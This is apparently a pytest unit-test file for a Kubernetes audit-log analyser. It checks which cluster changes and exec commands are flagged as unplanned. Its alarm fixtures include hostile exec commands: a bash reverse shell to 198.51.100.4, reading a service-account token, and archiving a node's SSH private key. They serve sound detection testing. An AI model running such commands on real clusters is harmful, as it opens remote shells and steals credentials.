"""What managed and extended clusters add to Kubernetes' own, and how a change is judged by what it opens and by whose tool speaks for it.

Raw audit records through reader and bridge.
"""

import json
from typing import Any

import pytest

from core.assessment import Verdict
from core.batch import Batch, Cursor
from core.bridge import EventBridge
from core.evaluate import kind_of_record
from core.ingest import Ingest
from core.json import JsonObject
from core.trait import Trait
from core.unified import UnifiedEvent
from tests.unit.core.providers.acting import judged, told
from tests.unit.core.providers.kubernetes.given import NOW, audit, deployment, read
from tests.unit.core.small_store import SmallStore

PERSON = "eve@acme.example"
RBAC = "rbac.authorization.k8s.io"
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
SCC = "securitycontextconstraints.security.openshift.io"


def bound(role: str, *names: str, kind: str = "Group") -> JsonObject:
    subjects: list[Any] = [{"kind": kind, "name": name} for name in names]
    return {"kind": "RoleBinding", "roleRef": {"kind": "ClusterRole", "name": role}, "subjects": subjects}


def role(kind: str, *resources: str) -> JsonObject:
    return {"kind": kind, "rules": [{"apiGroups": ["", "apps"], "resources": list(resources), "verbs": ["get", "create", "patch"]}]}


def service(kind: str, **annotations: str) -> JsonObject:
    return {"kind": "Service", "metadata": {"name": "web", "annotations": annotations}, "spec": {"type": kind, "ports": [{"port": 80}]}}


def daemons(image: str) -> JsonObject:
    return {"spec": {"template": {"spec": {"hostNetwork": True, "containers": [{"name": "c", "image": image}]}}}}


ALARMS = {
    "other subjects put into a binding": (
        audit("update", f"rolebindings.{RBAC}", body=bound("admin", "out@else.example", kind="User"), user=PERSON),
        Trait.GRANTS_ACCESS,
    ),
    "a binding by OpenShift's older API": (
        audit("create", "rolebindings.authorization.openshift.io", body=bound("admin", "eve"), user=PERSON),
        Trait.GRANTS_ACCESS,
    ),
    "a member of a project's policy": (
        audit("create", "iampolicymembers.iam.cnrm.cloud.google.com", body={"kind": "IAMPolicyMember", "spec": {"role": "x"}}, user=PERSON),
        Trait.GRANTS_ACCESS,
    ),
    "constraints opened to everyone's pods": (
        audit("update", SCC, body={"kind": "SecurityContextConstraints", "groups": ["system:authenticated"]}, user=PERSON),
        Trait.WEAKENS_PROTECTION,
    ),
    "another provider of identities": (
        audit(
            "patch", "oauths.config.openshift.io", body={"spec": {"identityProviders": [{"name": "x", "type": "HTPasswd"}]}}, user=PERSON
        ),
        Trait.CHANGES_TRUST,
    ),
    "no audit": (
        audit("patch", "apiservers.config.openshift.io", body={"spec": {"audit": {"profile": "None"}}}, user=PERSON),
        Trait.STOPS_LOGGING,
    ),
    "files on every node": (
        audit("create", "machineconfigs.machineconfiguration.openshift.io", body={"kind": "MachineConfig", "spec": {}}, user=PERSON),
        Trait.RUNS_FOREIGN_CODE,
    ),
    "who may deploy with Argo CD": (
        audit(
            "patch", "configmaps", namespace="argocd", name="argocd-rbac-cm", body={"data": {"policy.default": "role:admin"}}, user=PERSON
        ),
        Trait.GRANTS_ACCESS,
    ),
    "whose word Argo CD takes": (
        audit("patch", "configmaps", namespace="argocd", name="argocd-cm", body={"data": {"dex.config": "connectors: []"}}, user=PERSON),
        Trait.CHANGES_TRUST,
    ),
    "Argo CD without a log-in": (
        audit("patch", "configmaps", namespace="argocd", name="argocd-cm", body={"data": {"users.anonymous.enabled": "true"}}, user=PERSON),
        Trait.WEAKENS_AUTHENTICATION,
    ),
    "Argo CD's administrator": (
        audit("patch", "secrets", namespace="argocd", name="argocd-secret", body={"stringData": {"admin.password": "x"}}, user=PERSON),
        Trait.CHANGES_CREDENTIAL,
    ),
    "an application from another repository": (
        audit("patch", "applications.argoproj.io", body={"spec": {"source": {"repoURL": "https://git.else.example/m"}}}, user=PERSON),
        Trait.RUNS_FOREIGN_CODE,
    ),
    "a Flux source elsewhere": (
        audit("patch", "gitrepositories.source.toolkit.fluxcd.io", body={"spec": {"url": "https://git.else.example/m"}}, user=PERSON),
        Trait.RUNS_FOREIGN_CODE,
    ),
    "a webhook that is shown every object": (
        audit("create", "validatingwebhookconfigurations.admissionregistration.k8s.io", body={"webhooks": [{"name": "v"}]}, user=PERSON),
        Trait.CHANGES_TRUST,
    ),
    "a pod's token read by address": (
        audit("create", "pods/exec", requestURI=f"/api/v1/namespaces/shop/pods/web/exec?command=cat&command={TOKEN}", user=PERSON),
        Trait.READS_CREDENTIAL,
    ),
    "a node's key read by body": (
        audit("create", "pods/exec", body={"command": ["tar", "cf", "-", "/root/.ssh/id_rsa"]}, user=PERSON),
        Trait.READS_CREDENTIAL,
    ),
    "a shell for an address outside": (
        audit("create", "pods/exec", body={"command": ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.4/443 0>&1"]}, user=PERSON),
        Trait.USES_ATTACK_TOOL,
    ),
    "traffic in the clear": (
        audit("patch", "peerauthentications.security.istio.io", body={"spec": {"mtls": {"mode": "DISABLE"}}}, user=PERSON),
        Trait.WEAKENS_PROTECTION,
    ),
    "no backups until further notice": (
        audit("patch", "schedules.velero.io", body={"spec": {"paused": True}}, user=PERSON),
        Trait.WEAKENS_PROTECTION,
    ),
    "a volume that will go with its claim": (
        audit("patch", "persistentvolumes", namespace="", body={"spec": {"persistentVolumeReclaimPolicy": "Delete"}}, user=PERSON),
        Trait.WEAKENS_PROTECTION,
    ),
    "a watcher scaled to nothing": (
        audit("patch", "deployments.apps/scale", name="falcosidekick", body={"spec": {"replicas": 0}}, user=PERSON),
        Trait.STOPS_DETECTION,
    ),
    "a watcher sent to nodes that do not exist": (
        audit("patch", "daemonsets.apps", name="falco", body={"spec": {"template": {"spec": {"nodeSelector": {"x": "y"}}}}}, user=PERSON),
        Trait.STOPS_DETECTION,
    ),
    "a log shipper sent to nodes that do not exist": (
        audit(
            "patch", "daemonsets.apps", name="fluent-bit", body={"spec": {"template": {"spec": {"nodeSelector": {"x": "y"}}}}}, user=PERSON
        ),
        Trait.STOPS_LOGGING,
    ),
    "every secret of a namespace": (audit("deletecollection", "secrets", name="", user=PERSON), Trait.DELETES_DATA),
    "a port of every node": (audit("create", "services", body=service("NodePort"), user=PERSON), Trait.OPENS_NETWORK),
    "workloads in every namespace": (
        audit("create", f"clusterroles.{RBAC}", namespace="", body=role("ClusterRole", "pods"), user=PERSON),
        Trait.GRANTS_ACCESS,
    ),
}


@pytest.mark.parametrize(("record", "trait"), ALARMS.values(), ids=ALARMS)
def test_what_opens_a_way_in_is_unplanned_where_a_hand_does_it_unexplained(record: JsonObject, trait: Trait) -> None:
    verdict, traits = told("k8s-audit", record)
    assert trait in traits
    assert verdict is Verdict.UNPLANNED


DAILY = {
    "a load balancer that stays inside": audit(
        "create", "services", body=service("LoadBalancer", **{"service.beta.kubernetes.io/aws-load-balancer-internal": "true"}), user=PERSON
    ),
    "colleagues may look": audit("create", f"rolebindings.{RBAC}", body=bound("view", "devs"), user=PERSON),
    "a role to deploy with in one namespace": audit("create", f"roles.{RBAC}", body=role("Role", "pods", "deployments"), user=PERSON),
    "an application's next version": audit(
        "patch", "applications.argoproj.io", body={"spec": {"source": {"targetRevision": "v2"}}}, user=PERSON
    ),
    "Argo CD's settings": audit(
        "patch", "configmaps", namespace="argocd", name="argocd-cm", body={"data": {"timeout.reconciliation": "60s"}}, user=PERSON
    ),
    "a volume that will be kept": audit(
        "patch", "persistentvolumes", namespace="", body={"spec": {"persistentVolumeReclaimPolicy": "Retain"}}, user=PERSON
    ),
    "fewer of something else": audit("patch", "deployments.apps/scale", name="api", body={"spec": {"replicas": 0}}, user=PERSON),
    "a tunnel to a pod": audit("create", "pods/portforward", user=PERSON),
    "constraints that allow nothing more": audit(
        "create", SCC, body={"kind": "SecurityContextConstraints", "allowPrivilegedContainer": False}, user=PERSON
    ),
}


@pytest.mark.parametrize("record", DAILY.values(), ids=DAILY)
def test_daily_work_of_a_person_is_not_called_unplanned(record: JsonObject) -> None:
    verdict, _ = told("k8s-audit", record)
    assert verdict is Verdict.UNKNOWN


def test_a_view_for_everyone_is_no_small_thing() -> None:
    verdict, traits = told("k8s-audit", audit("create", f"rolebindings.{RBAC}", body=bound("view", "system:authenticated"), user=PERSON))
    assert Trait.GRANTS_ACCESS in traits
    assert verdict is Verdict.UNPLANNED


def test_the_platforms_own_add_on_from_the_vendors_registry_is_routine() -> None:
    image = "602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni:v1.16"
    given: Any = {"namespace": "kube-system", "name": "aws-node", "user": "eks:addon-manager", "agent": "Go-http-client/1.1"}
    verdict, _ = told("k8s-audit", audit("patch", "daemonsets.apps", body=daemons(image), **given))
    assert verdict is Verdict.ROUTINE
    verdict, _ = told("k8s-audit", audit("patch", "daemonsets.apps", body=daemons(image.replace("602401143452", "111122223333")), **given))
    assert verdict is Verdict.UNPLANNED


def test_helms_own_record_tells_of_the_release_where_helm_wrote_it() -> None:
    labels = {"owner": "helm", "name": "shop", "version": "12", "status": "deployed"}
    name = "sh.helm.release.v1.shop.v12"
    written: Any = {"kind": "Secret", "type": "helm.sh/release.v1", "metadata": {"name": name, "labels": labels}}
    (by_helm,) = judged("k8s-audit", audit("create", "secrets", name=name, body=written, agent="Helm/3.14.2"))
    assert [intent.says for intent in by_helm.event.intents] == ["Helm release shop, revision 12"]
    assert by_helm.verdict is Verdict.PLANNED
    (by_hand,) = judged("k8s-audit", audit("create", "secrets", name=name, body=written))
    assert not by_hand.event.intents
    assert by_hand.verdict is Verdict.UNKNOWN


@pytest.mark.parametrize("user", ["system:serviceaccount:ci:deployer", "system:serviceaccount:arc-runners:shop-x2"])
def test_an_account_of_a_pipelines_namespace_deploys(user: str) -> None:
    verdict, _ = told("k8s-audit", audit("patch", "deployments.apps", body={"spec": {"paused": False}}, user=user))
    assert verdict is Verdict.PLANNED


def test_nothing_follows_as_planned_from_an_accounts_own_unexplained_alarm() -> None:
    account = audit("create", "pods/exec", user="system:serviceaccount:web:front", agent="curl/8", auditID="a-1")
    nobody = audit("create", "pods/exec", user="", agent="", auditID="a-2")
    first, second = judged("k8s-audit", account, nobody)
    assert first.verdict is Verdict.UNPLANNED
    assert second.verdict is Verdict.UNPLANNED


def test_nobody_known_is_not_planned_for_following_an_accounts_ordinary_deploy() -> None:
    account = audit("patch", "deployments.apps", user="system:serviceaccount:web:front", auditID="a-1", body={"spec": {"paused": False}})
    nobody = audit("patch", "deployments.apps", user="", agent="", auditID="a-2", body={"spec": {"paused": True}})
    _, second = judged("k8s-audit", account, nobody)
    assert second.verdict is Verdict.UNKNOWN


def test_an_edit_of_what_git_owns_is_a_hands_though_a_snapshot_names_nobody() -> None:
    owned = {"labels": {"argocd.argoproj.io/instance": "shop"}}
    fields: JsonObject = {"f:spec": {"f:template": {"f:spec": {"f:containers": {}}}}}
    edited = {"manager": "kubectl-edit", "operation": "Update", "time": "2026-11-24T08:59:00Z", "fieldsV1": fields}
    (one,) = judged_snapshots(
        deployment("api:1", metadata=owned), deployment("api:hot", version="2", metadata={**owned, "managedFields": [edited]})
    )
    assert not one.event.actor.known
    assert one.verdict is Verdict.UNPLANNED


def judged_snapshots(*objects: JsonObject) -> list[UnifiedEvent]:
    store: Any = SmallStore()
    events = [event for reading in read("k8s-object", *objects) for event in reading.events]
    Ingest(store, EventBridge(store, clock=lambda: NOW), clock=lambda: NOW).take(
        "eks", Batch(cursor=Cursor(), events=tuple(events)), backfilled=True
    )
    return [store.unified(event.id) for event in events]


def test_an_audit_record_in_azures_envelope_is_scored() -> None:
    inner = json.dumps(audit("delete", "pods"))
    assert kind_of_record({"event": {"category": "kube-audit", "properties": {"log": inner}}}) == ("event", "k8s-audit")


@pytest.mark.parametrize(
    ("agent", "verdict"),
    [
        ("kubectl/v1.31.2 (linux/amd64) kubernetes/abc", Verdict.PLANNED),
        ("curl/8.7.1", Verdict.UNKNOWN),
        ("Wget/1.21.4", Verdict.UNKNOWN),
        ("PostmanRuntime/7.32.3", Verdict.UNKNOWN),
        ("python-requests/2.31.0", Verdict.UNKNOWN),
        ("Mozilla/5.0 (X11; Linux x86_64)", Verdict.UNKNOWN),
    ],
)
def test_a_deployers_token_in_a_bare_client_or_a_browser_explains_nothing(agent: str, verdict: Verdict) -> None:
    made = audit("create", "deployments.apps", user="system:serviceaccount:production:deployer", agent=agent, body=deployment())
    (one,) = judged("k8s-audit", made)
    assert one.verdict is verdict
